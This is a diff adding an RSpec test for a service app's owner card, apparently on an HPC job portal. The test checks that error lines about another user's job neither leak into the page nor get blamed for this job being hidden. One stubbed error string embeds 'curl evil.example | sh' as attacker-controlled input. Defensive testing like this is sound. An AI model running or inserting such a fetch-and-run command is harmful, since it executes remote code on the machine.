@@ -98,6 +98,17 @@ RSpec.describe "the owner's own card on a service app" do
     expect(owner(shares: {})).to include("Members may not see this job now", "squeue: no answer within 10 s")
   end
 
+  it "does not pin another job's problem on this one: a line about some other job is not why this job is unseen" do
+    # Any user can make the first error line: a job of theirs named with a "|" that does not parse, or a
+    # share whose host is a text of their choosing.
+    allow(MultiTenant).to receive(:errors).and_return(['job 99 (mallory): host "run: curl evil.example | sh" is not a node of job 99'])
+    html = owner(shares: {})
+    expect(html).to include("Not shared now: members see nothing.")
+    expect(html).not_to include("mallory", "evil.example")
+    allow(MultiTenant).to receive(:errors).and_return(['job 99 (mallory): bad seal', "job 42 (#{me}): host \"x\" is not a node of job 42"])
+    expect(owner(shares: {})).to include("Members may not see this job now", "job 42 (#{me}): host")
+  end
+
   describe "view.html.erb: the running service for the owner's own use, from the job's connection.yml" do
     def view(app, conn) = MD.render(ERB.new(File.read(File.join(ROOT, "ood/apps", app, "view.html.erb"))).result(OpenStruct.new(conn).instance_eval { binding }))
 
